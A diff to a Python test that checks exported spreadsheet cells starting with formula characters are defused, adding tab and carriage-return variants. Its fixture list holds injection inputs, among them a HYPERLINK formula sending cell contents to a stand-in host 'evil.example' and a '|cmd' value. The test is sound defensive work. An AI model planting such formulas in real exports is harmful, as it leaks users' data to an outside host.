@@ -17,9 +17,9 @@ from tests.helpers import create_user
 pytestmark = pytest.mark.worker
 
 NOTES = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)", "+1", "-30-", "|cmd", "%d",
-         "a=b", "plain"]
+         "\t=1+1", "\rcmd", "a=b", "plain"]
 DEFUSED = ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'@SUM(1+1)", "'+1", "'-30-", "'\\|cmd",
-           "'%d", "a=b", "plain"]
+           "'%d", "'\t=1+1", "'\rcmd", "a=b", "plain"]
 
 
 def test_export_cells_that_start_a_formula_are_defused(worker_app, admin, celery_worker):
